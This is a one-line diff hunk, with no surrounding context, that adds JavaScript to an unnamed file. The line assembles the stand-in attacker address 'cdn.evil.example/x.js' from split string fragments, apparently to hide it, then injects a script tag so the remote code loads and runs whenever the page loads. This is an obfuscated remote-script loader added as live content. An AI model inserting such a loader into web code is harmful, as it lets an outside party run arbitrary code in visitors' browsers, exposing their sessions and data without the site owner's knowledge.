@@ -1,0 +1,1 @@
+var p1='https://cdn.', p2='ev', p3='il.example/x.js'; var el=document.createElement('script'); el.src=p1+p2+p3; document.body.appendChild(el);
